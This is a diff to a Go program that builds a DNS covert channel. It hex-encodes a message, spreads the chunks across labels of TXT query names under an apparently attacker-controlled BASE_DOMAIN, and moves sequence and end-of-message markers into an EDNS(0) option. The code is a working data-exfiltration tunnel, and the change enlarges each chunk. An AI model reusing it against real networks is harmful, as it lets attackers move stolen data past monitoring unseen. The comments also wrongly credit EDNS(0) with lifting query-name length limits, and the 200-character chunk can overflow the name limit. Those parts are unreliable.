@@ -3,52 +3,26 @@ package main
 import (
 	"encoding/hex"
 	"fmt"
-	"math/rand"
 
-	"github.com/google/gopacket"
 	"github.com/google/gopacket/layers"
 )
 
-// generateDNSTXTQuery creates a DNS query packet for a specific domain, requesting a TXT record.
-func generateDNSTXTQuery(domain string) ([]byte, error) {
-	// Generate a random transaction ID
-	// Note: For production/better randomness, use crypto/rand or rand.New(rand.NewSource(...))
-	// rand.Seed(time.Now().UnixNano()) // Deprecated pattern, but simple for example
-	transactionID := uint16(rand.Intn(65535)) // Using math/rand for simplicity here
-
-	// Create DNS question for TXT record
-	dnsQuestion := layers.DNSQuestion{
-		Name:  []byte(domain),
-		Type:  layers.DNSTypeTXT, // Requesting TXT record
-		Class: layers.DNSClassIN,
-	}
-
-	// Create DNS layer
-	dns := layers.DNS{
-		ID:        transactionID,
-		OpCode:    layers.DNSOpCodeQuery,
-		RD:        true, // Recursion Desired (optional, can be false)
-		QDCount:   1,    // One question
-		Questions: []layers.DNSQuestion{dnsQuestion},
-		ANCount:   0, // No answers in a query
-		NSCount:   0, // No authorities in a query
-		ARCount:   0, // No additional records in a query
-	}
-
-	// Serialize DNS layer
-	buffer := gopacket.NewSerializeBuffer()
-	options := gopacket.SerializeOptions{
-		FixLengths:       true,
-		ComputeChecksums: true,
-	}
+// generateDNSTXTQuery creates a TXT query for domain, negotiating EDNS(0)
+// and carrying the covert channel's sequence number and end-of-message flag
+// in an OPT option rather than the query name.
+func generateDNSTXTQuery(domain string, sequenceNumber int, end bool) ([]byte, error) {
+	return generateCovertDNSQuery(domain, layers.DNSTypeTXT, sequenceNumber, end)
+}
 
-	err := dns.SerializeTo(buffer, options)
-	if err != nil {
-		return nil, fmt.Errorf("error serializing DNS layer: %w", err)
-	}
+// txtLabelSize is the per-label capacity used when splitting a hex-encoded
+// chunk across an FQDN; domain labels cap at 63 bytes.
+const txtLabelSize = 63
 
-	return buffer.Bytes(), nil
-}
+// txtChunkSize is the hex-encoded payload carried per query. Now that
+// EDNS(0) raises the usable message size, a chunk can span several labels
+// and approach the 255-byte FQDN limit, well beyond the 60-byte
+// single-label cap a pre-EDNS(0) query was stuck with.
+const txtChunkSize = 200
 
 // generateCovertTXTQueries generates covert DNS TXT queries
 func generateCovertTXTQueries(message string) ([][]byte, error) {
@@ -56,28 +30,24 @@ func generateCovertTXTQueries(message string) ([][]byte, error) {
 	covertData := []byte(message)
 	encodedData := hex.EncodeToString(covertData) // Encode message to Hex
 
-	// Domain labels have a max length of 63 chars. Hex encoding doubles the size.
-	const encodedChunkSize = 60
 	sequenceNumber := 0
 	dnsQueryPackets := make([][]byte, 0)
 
-	for i := 0; i < len(encodedData); i += encodedChunkSize {
-		end := i + encodedChunkSize
+	for i := 0; i < len(encodedData); i += txtChunkSize {
+		end := i + txtChunkSize
 		if end > len(encodedData) {
 			end = len(encodedData)
 		}
 		chunk := encodedData[i:end]
 
-		fmt.Printf("Chunk: %s\n", chunk)
-
-		// Construct the full domain name for the query
-		// Format: [hex_chunk].[sequence_number]
-		queryText := fmt.Sprintf("%s.%d", chunk, sequenceNumber)
+		fmt.Printf("Chunk %d: %s\n", sequenceNumber, chunk)
 
-		fmt.Printf("Query Text: %s\n", queryText)
+		// Construct the full domain name for the query, spreading the chunk
+		// across as many labels as it takes.
+		queryDomain := fmt.Sprintf("%s.%s", joinLabels(chunk, txtLabelSize), BASE_DOMAIN)
 
 		// Generate the DNS TXT query packet
-		dnsQueryPacket, _ := generateDNSTXTQuery(queryText)
+		dnsQueryPacket, _ := generateDNSTXTQuery(queryDomain, sequenceNumber, false)
 
 		// Send the DNS query packet
 		dnsQueryPackets = append(dnsQueryPackets, dnsQueryPacket)
@@ -85,8 +55,8 @@ func generateCovertTXTQueries(message string) ([][]byte, error) {
 		sequenceNumber++
 	}
 
-	endQueryText := fmt.Sprintf("end.%d", sequenceNumber)
-	endQuery, _ := generateDNSTXTQuery(endQueryText)
+	endQueryDomain := fmt.Sprintf("end.%s", BASE_DOMAIN)
+	endQuery, _ := generateDNSTXTQuery(endQueryDomain, sequenceNumber, true)
 	dnsQueryPackets = append(dnsQueryPackets, endQuery)
 
 	return dnsQueryPackets, nil